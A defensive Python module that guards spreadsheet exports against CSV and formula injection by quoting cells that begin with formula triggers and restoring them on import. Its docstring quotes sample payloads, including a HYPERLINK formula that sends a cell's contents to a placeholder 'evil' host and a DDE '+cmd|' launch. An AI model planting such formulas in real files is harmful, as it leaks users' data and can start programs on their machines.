"""Cells that a spreadsheet program would run, written so that it shows them as text.

A record's text comes from whoever wrote the workspace. A purpose written
`=HYPERLINK("http://evil/?"&A1, "receipt")`, or `@SUM(...)`, `+cmd|...`,
`-2+3` or one starting with a tab or carriage return, is a formula to Excel
and LibreOffice when it arrives in a CSV file or a formula cell (CSV or
formula injection): it can read other cells and send them away, or start a
program through DDE.

- In xlsx a text cell is never a formula; vpsec also marks such a cell
  "quote-prefixed", so that editing it keeps it text. The value is unchanged.
- In CSV there are no types: such a value is written with a leading
  apostrophe, which spreadsheet programs take as "this is text". Reading a
  CSV removes that one apostrophe again, so export and import round-trip.
  A value that already starts with apostrophes before such a character gets
  one more, so that removing one always gives back what was written.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_APOSTROPHE = "'"
# Characters that the XML of an xlsx file cannot hold (openpyxl refuses them).
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def starts_formula(text: str) -> bool:
    """True when a spreadsheet program would read text typed into a cell as a formula."""
    return text.startswith(TRIGGERS)


def _quoted_trigger(text: str) -> bool:
    """Apostrophes followed by a trigger: what neutralise_csv makes of a dangerous value."""
    bare = text.lstrip(_APOSTROPHE)
    return len(bare) < len(text) and starts_formula(bare)


def neutralise_csv(text: str) -> str:
    """A CSV field that a spreadsheet program shows as text, never runs."""
    if starts_formula(text) or _quoted_trigger(text):
        return _APOSTROPHE + text
    return text


def restore_csv(text: str) -> str:
    """The value neutralise_csv was given (the apostrophe it added taken off)."""
    if _quoted_trigger(text):
        return text[1:]
    return text


def xml_safe(text: str) -> tuple[str, bool]:
    """text with the characters xlsx cannot hold replaced by U+FFFD; True when any was."""
    cleaned, count = _NOT_IN_XML.subn("\ufffd", text)
    return cleaned, count > 0
